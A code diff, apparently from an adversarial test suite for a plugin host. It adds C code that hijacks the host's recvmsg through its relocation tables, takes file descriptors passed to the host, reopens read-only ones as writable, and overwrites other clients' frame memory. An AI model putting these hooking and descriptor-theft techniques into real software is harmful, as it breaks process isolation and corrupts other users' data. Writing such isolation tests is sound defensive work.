@@ -1,4 +1,5 @@
 // Deeds that reach for what lies around a plugin: its channel to the host, the terminal, memory, threads, descriptors.
+#include <link.h>
 #include <pthread.h>
 #include <linux/capability.h>
 #include <sys/ioctl.h>
@@ -17,33 +18,68 @@ static void forge(uint64_t length, size_t count) {
   send(CHANNEL, bytes, count, MSG_NOSIGNAL);
 }
 
-// Looks at what comes before the host's own code takes it, and keeps the descriptors of frames.
-static volatile int stolen = -1;
+// Takes the descriptors of frames as they come: the host's own call to receive them is led here.
+static volatile int stolen;
 static volatile char *volatile opened;
-static void *steal(void *unused) {
-  (void)unused;
-  for (;;) {
-    char bytes[1];
-    union { struct cmsghdr header; char space[256]; } control;
-    struct iovec vector = {bytes, 1};
-    struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control.space, .msg_controllen = sizeof control.space};
-    if (recvmsg(CHANNEL, &message, MSG_PEEK | MSG_DONTWAIT) <= 0) continue;
-    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
-    if (!header || header->cmsg_type != SCM_RIGHTS) continue;
+static void open_again(int descriptor) {
+  // Outputs are ours to write; sources come read-only.
+  if ((fcntl(descriptor, F_GETFL) & O_ACCMODE) != O_RDONLY) return;
+  stolen++;
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/fd/%d", descriptor);
+  fchmod(descriptor, 0600);
+  const int again = open(path, O_RDWR);
+  void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, again < 0 ? descriptor : again, 0);
+  if (memory != MAP_FAILED) opened = memory;
+}
+
+static ssize_t receive(int socket, struct msghdr *message, int flags) {
+  const ssize_t result = recvmsg(socket, message, flags);
+  for (struct cmsghdr *header = result > 0 ? CMSG_FIRSTHDR(message) : NULL; header; header = CMSG_NXTHDR(message, header)) {
+    if (header->cmsg_type != SCM_RIGHTS) continue;
     int descriptor;
     memcpy(&descriptor, CMSG_DATA(header), sizeof descriptor);
-    // Outputs are ours to write; sources come read-only.
-    if ((fcntl(descriptor, F_GETFL) & O_ACCMODE) != O_RDONLY) { close(descriptor); continue; }
-    stolen = descriptor;
-    char path[64];
-    snprintf(path, sizeof path, "/proc/self/fd/%d", descriptor);
-    fchmod(descriptor, 0600);
-    int again = open(path, O_RDWR);
-    if (again < 0) again = descriptor;
-    void *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, again, 0);
-    if (memory != MAP_FAILED) opened = memory;
+    open_again(descriptor);
   }
-  return NULL;
+  return result;
+}
+
+// Puts another function in place of one that the program calls.
+static void replace(uintptr_t base, const ElfW(Dyn) *dynamic, const char *name, void *other) {
+  const ElfW(Sym) *symbols = NULL;
+  const char *texts = NULL;
+  uintptr_t tables[2] = {0};
+  size_t sizes[2] = {0};
+  for (; dynamic->d_tag != DT_NULL; dynamic++) {
+    const uintptr_t value = dynamic->d_un.d_ptr < base ? base + dynamic->d_un.d_ptr : dynamic->d_un.d_ptr;
+    switch (dynamic->d_tag) {
+    case DT_SYMTAB: symbols = (const void *)value; break;
+    case DT_STRTAB: texts = (const void *)value; break;
+    case DT_RELA: tables[0] = value; break;
+    case DT_RELASZ: sizes[0] = dynamic->d_un.d_val; break;
+    case DT_JMPREL: tables[1] = value; break;
+    case DT_PLTRELSZ: sizes[1] = dynamic->d_un.d_val; break;
+    }
+  }
+  for (int table = 0; table < 2; table++) {
+    const ElfW(Rela) *entry = (const void *)tables[table];
+    for (size_t i = 0; entry && i < sizes[table] / sizeof *entry; i++) {
+      const size_t symbol = ELF64_R_SYM(entry[i].r_info);
+      if (symbol == 0 || strcmp(texts + symbols[symbol].st_name, name)) continue;
+      void **slot = (void **)(base + entry[i].r_offset);
+      mprotect((void *)((uintptr_t)slot / 4096 * 4096), 4096, PROT_READ | PROT_WRITE);
+      *slot = other;
+    }
+  }
+}
+
+static int replace_receiving(struct dl_phdr_info *info, size_t size, void *unused) {
+  (void)size, (void)unused;
+  for (int i = 0; i < info->dlpi_phnum; i++)
+    if (info->dlpi_phdr[i].p_type == PT_DYNAMIC)
+      replace(info->dlpi_addr, (const void *)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr), "recvmsg", receive);
+  // The program itself comes first.
+  return 1;
 }
 
 // Every writable mapping of frames but those of the one that is being asked for.
@@ -57,7 +93,8 @@ static void scribble(const uint8_t *own) {
       char access[8];
       if (sscanf(line, "%lx-%lx %7s %*s %*s %lu", &start, &end, access, &file) != 4 || !strstr(line, "compositor-frame")) continue;
       if (turn == 0 && (uintptr_t)own >= start && (uintptr_t)own < end) own_file = file;
-      if (turn == 1 && file != own_file && access[1] == 'w') memset((void *)start, 7, end - start);
+      // As much as the smallest frame has: a mapping may be longer than what is behind it.
+      if (turn == 1 && file != own_file && access[1] == 'w') memset((void *)start, 7, 4 * 4096);
     }
     if (maps) fclose(maps);
   }
